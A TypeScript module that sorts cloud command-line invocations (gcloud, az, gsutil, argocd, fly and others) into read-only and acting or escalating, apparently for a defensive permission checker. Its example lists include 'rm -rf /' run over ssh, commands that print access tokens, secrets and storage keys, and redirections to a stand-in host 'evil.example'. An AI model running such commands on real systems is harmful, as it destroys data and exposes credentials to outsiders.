import { definedFields } from '../../../call/defined-fields.ts';
import type { Arguments, Command, Refinement } from '../model/model.ts';
import { literalOf } from '../read/words/word.ts';

interface Client extends Pick<Command, 'names' | 'escalating' | 'prints' | 'examples'> {
  /** Options that keep a query read-only. Any other makes it act. */
  readonly options: string;
  /** Complete read-only command lines without options: sub-commands by name, so that no verb can hide among them. */
  readonly asks: RegExp;
  /** Those of them that show variables of programs unless single fields are selected. */
  readonly reveals?: RegExp;
  /** Files of the directory from which it takes another address, account or variables. */
  readonly loads?: readonly string[];
}

/** A program that talks to a service with the user's own account. Its output must not contain keys, passwords or tokens. */
function client({ asks, reveals, loads, ...row }: Client): Command {
  return {
    does: 'acts',
    operands: { rest: 'text' },
    refine: (args) => (isAsking(args, asks) && !isRevealing(args, reveals) ? asking : undefined),
    ...definedFields({ loads }),
    ...row,
  };
}

const asking: Refinement = { does: 'reads' };

function isAsking({ operands, strangers, vague, options }: Arguments, asks: RegExp): boolean {
  const words = operands.map(({ word }) => literalOf(word));
  const isKnown = strangers.length + vague.length === 0 && options.every(({ kind }) => kind === 'plain');
  if (!isKnown || words.some((text) => text === undefined || /\n/u.test(text))) return false;
  return asks.test(words.join(' '));
}

function isRevealing({ operands, options }: Arguments, reveals: RegExp | undefined): boolean {
  const line = operands.map(({ word }) => literalOf(word) ?? '').join(' ');
  if (reveals?.test(line) !== true) return false;
  const chosen = options.filter(({ name }) => name === '--format' || name === '--query');
  if (chosen.length === 0 && / list\b/u.test(line)) return false;
  return !chosen.some(({ value }) => isNarrow(literalOf(value) ?? ''));
}

/** `value(status.url)`, `[].name`: single fields, none of them named like variables or a container of variables. */
function isNarrow(projection: string): boolean {
  const fields = /^(?:\w+\()?([\w.[\]:,{}()\s-]+)\)?$/u.exec(projection)?.[1];
  if (fields === undefined || /^(?:json|yaml|text|table|csv|list|flattened)$/u.test(fields)) return false;
  return fields
    .split(/[,{}]/u)
    .every(
      (field) =>
        !/env|variables|metadata|items|(?:containers(?:\[\d*\])?|spec|template|config|buildconfig|serviceconfig|properties)$/iu.test(
          field.trim(),
        ),
    );
}

/** Names of resources at Google: no verb can occur between a group and its `list`. */
const googleThings =
  'instances|instance-groups|instance-templates|managed|unmanaged|disks|snapshots|images|networks|subnets|routers|routes|addresses|firewall-rules|forwarding-rules|backend-services|health-checks|url-maps|target-pools|machine-types|zones|regions|operations|clusters|node-pools|services|revisions|jobs|executions|topics|subscriptions|databases|backups|buckets|objects|builds|triggers|repositories|docker|packages|versions|tags|service-accounts|roles|configurations|record-sets|managed-zones|metrics|logs|sinks|functions|workflows|queues|dashboards|policies|environments|folders|quotas|indexes|models|endpoints';
const googleGroups =
  'compute|container|run|sql|pubsub|storage|dns|artifacts|builds|functions|logging|monitoring|iam|services|projects|organizations|config|app|redis|composer|dataproc|dataflow|deploy|scheduler|tasks|workflows|eventarc|spanner|firestore|bigtable|ai|ml|quotas|auth';

const azureThings =
  'vnet|subnet|nsg|rule|public-ip|lb|application-gateway|dns|private-dns|zone|record-set|plan|repository|manifest|nodepool|activity-log|metrics|alert|assignment|definition|server|flexible-server|db|namespace|queue|topic|subscription|deployment|slot|revision|replica|registry|zones';
const azureGroups =
  'account|group|aks|vm|vmss|network|resource|acr|webapp|functionapp|appservice|containerapp|monitor|role|deployment|disk|image|sql|postgres|mysql|redis|servicebus|eventhubs|provider';

export const cloudClients = (): readonly Command[] => [
  client({
    names: ['gcloud'],
    options:
      '-q --quiet --project: --format: --filter: --limit: --page-size: --sort-by: --zone: --zones: --region: --regions: --location: --uri --global --cluster: --service: --job: --platform: --freshness: --order: --instance: --topic: --all --all-regions --show-deleted --include-tags --verbosity: --account: --configuration: --repository: --folder: --organization: --database: --managed-by:',
    asks: new RegExp(
      `^(?:(?:alpha|beta) )?(?:(?:${googleGroups})(?: (?:${googleThings})){0,3} (?:list|describe|list-tags|get-server-config)|logging read|storage (?:ls|du)|config (?:get|get-value)|info|version)(?: [^ ]+)*$`,
      'u',
    ),
    reveals:
      /^(?:(?:alpha|beta) )?(?:run|functions|app|composer|builds|deploy|ai|dataflow|compute instance(?:s|-templates)) ?.*(?:list|describe)\b/u,
    escalating: [{ options: '--command:shell --ssh-flag:', why: 'runs a command elsewhere' }],
    prints: '--version --help version',
    examples: {
      reads: [
        'gcloud --version',
        'gcloud projects list',
        'gcloud compute instances list --filter=status=RUNNING --format=value(name)',
        "gcloud run services describe x --format='yaml(spec.template.spec.containers[0].resources)'",
        'gcloud --project x container clusters describe staging --region europe-west1',
        "gcloud logging read 'severity>=ERROR' --limit 20 --format json",
        'gcloud config get-value project',
      ],
      acts: [
        'gcloud compute instances delete list',
        'gcloud functions describe f',
        'gcloud run services list --format=json',
        'gcloud compute instances delete x --quiet',
        'gcloud secrets versions access latest --secret db',
        'gcloud secrets list',
        'gcloud auth print-access-token',
        'gcloud container clusters get-credentials prod',
        'gcloud compute ssh list',
        'gcloud projects list --impersonate-service-account=x',
        'gcloud projects list --flags-file=x',
        'gcloud compute instances $X',
      ],
      escalates: ['gcloud compute ssh x --command "rm -rf /"'],
    },
  }),
  client({
    names: ['gsutil'],
    options: '-lhrRaLbpsq -m',
    escalating: [{ options: '-o:', why: 'sets any value of its configuration, hosts and proxies too' }],
    asks: /^(?:ls|du|stat|version)(?: gs:\/\/[^ ]+)*$/u,
    prints: '--version --help version',
    examples: {
      reads: ['gsutil ls', 'gsutil ls -l gs://b/x'],
      acts: ['gsutil rm gs://b/x', 'gsutil cp gs://b/x .', 'gsutil cat gs://b/x', 'gsutil ls /etc'],
      escalates: ['gsutil -o Credentials:gs_json_host=evil.example ls gs://b'],
    },
  }),
  client({
    names: ['az'],
    options:
      '-o: -g: -n: --output: --query: --resource-group: --name: --subscription: --only-show-errors --vnet-name: --nsg-name: --cluster-name: --server-name: --namespace-name: --location: -l: --all --top: --offset: --max-events: --start-time: --end-time: --registry: -r: --repository:',
    reveals: /^(?:containerapp|functionapp|webapp|deployment)\b/u,
    asks: new RegExp(
      `^(?:(?:${azureGroups})(?: (?:${azureThings})){0,3} (?:list|show|list-locations|show-tags)|storage account list|version)$`,
      'u',
    ),
    prints: '--version --help version',
    examples: {
      reads: ['az account show', 'az aks list -o table', "az group list --query '[].name' -o tsv"],
      acts: [
        'az vm delete',
        'az keyvault secret show -n x --vault-name y',
        'az webapp config appsettings list -n x -g y',
        'az storage account keys list -n x',
        'az acr credential show -n x',
        'az account get-access-token',
        'az aks get-credentials -n x -g y',
        'az group delete -n list',
      ],
    },
  }),
  client({
    names: ['doctl'],
    options: '-o: --output: --format: --no-header --region:',
    asks: /^(?:account get|apps list|compute (?:droplet|image|region|size|domain|load-balancer|firewall|volume) (?:list|get)|kubernetes cluster (?:list|get)|databases list|registry get)(?: [^ ]+)*$/u,
    examples: {
      reads: ['doctl compute droplet list', 'doctl apps list --format ID,Name'],
      acts: [
        'doctl compute droplet delete list',
        'doctl kubernetes cluster kubeconfig show x',
        'doctl auth init',
      ],
    },
  }),
  client({
    names: ['flyctl', 'fly'],
    options: '-a: -n -j --app: --json --no-tail --region: --instance: --all',
    asks: /^(?:status|logs|releases|checks list|services list|apps list|machines? (?:list|status)(?: \w+)?|volumes? list|ips list|regions list|platform (?:regions|vm-sizes)|scale show|secrets list|version|auth whoami)$/u,
    prints: '--version --help version',
    examples: {
      reads: ['flyctl status -a api', 'fly logs -a api --no-tail', 'fly secrets list'],
      acts: [
        'fly deploy',
        'fly secrets set A=b',
        'fly ssh console',
        'fly auth token',
        'fly machine destroy list',
      ],
    },
  }),
  client({
    names: ['argocd'],
    options:
      '-o: -l: -p: --output: --selector: --project: --refresh? --grpc-web --show-operation --show-params --tail: --since-seconds: --container: --kind:',
    asks: /^(?:version|app (?:list|get|diff|history|resources|logs)|cluster list|proj (?:list|get)|repo list)(?: [^ ]+)*$/u,
    escalating: [
      {
        options: '--server: --auth-token: --config:read',
        why: 'talks to another server or as somebody else',
      },
    ],
    examples: {
      reads: ['argocd app list', 'argocd app get api --refresh=false', 'argocd app diff api'],
      acts: ['argocd app sync api', 'argocd app delete list', 'argocd login x', 'argocd app manifests api'],
      escalates: ['argocd --server evil.example app list'],
    },
  }),
  client({
    names: ['flux'],
    options:
      '-A -n: -o: --all-namespaces --namespace: --output: --kind: --name: --level: --since: --tail: --status-selector:',
    asks: /^(?:get|version|check|logs|tree|stats|trace|events)(?: [a-z][\w-]*){0,3}$/u,
    examples: {
      reads: ['flux get kustomizations -A', 'flux logs --level=error'],
      acts: ['flux reconcile kustomization x', 'flux delete kustomization get'],
    },
  }),
  client({
    names: ['istioctl'],
    options: '-A -n: -o: --all-namespaces --namespace: --output: --failure-threshold: --short --remote',
    asks: /^(?:analyze|proxy-status|ps|version)(?: [\w.-]+)*$/u,
    examples: {
      reads: ['istioctl analyze -n x', 'istioctl proxy-status'],
      acts: ['istioctl install', 'istioctl dashboard kiali'],
    },
  }),
  client({
    names: ['kind', 'minikube', 'k3d'],
    options: '-o: -p: -A --output: --profile: --no-headers --short',
    asks: /^(?:get (?:clusters|nodes)|status|ip|profile list|addons list|(?:cluster|node|registry) list|version)$/u,
    prints: '--version --help version',
    examples: {
      reads: ['kind get clusters', 'minikube status', 'k3d cluster list'],
      acts: ['kind delete cluster', 'minikube start', 'kind get kubeconfig'],
    },
  }),
  client({
    names: ['eksctl'],
    options: '-o: -r: --output: --region: --cluster: --name: --profile:',
    asks: /^(?:get (?:clusters?|nodegroups?|addons?|fargateprofiles?)|info|version)(?: [\w-]+)?$/u,
    prints: '--version --help version',
    examples: {
      reads: ['eksctl get cluster', 'eksctl get nodegroup --cluster x'],
      acts: ['eksctl delete cluster x', 'eksctl utils write-kubeconfig'],
    },
  }),
  client({
    names: ['vercel', 'netlify', 'firebase', 'supabase', 'railway'],
    options: '--json --format: --limit: --environment:',
    asks: /^(?:ls|list|inspect [\w.-]+|logs [\w.-]+|logs|whoami|status|sites:list|deployments list|projects list|projects:list)$/u,
    loads: ['.env', '.env.local'],
    examples: {
      reads: ['vercel ls', 'netlify status', 'railway logs'],
      acts: ['vercel --prod', 'vercel env pull', 'netlify env:list', 'vercel ls --token x'],
    },
  }),
  {
    // The `.env` of the directory may name another host for its token, and without that token it requests nothing from
    // Cloudflare.
    names: ['wrangler'],
    does: 'acts',
    operands: { rest: 'text' },
    examples: { acts: ['wrangler whoami', 'wrangler deploy'] },
  },
];
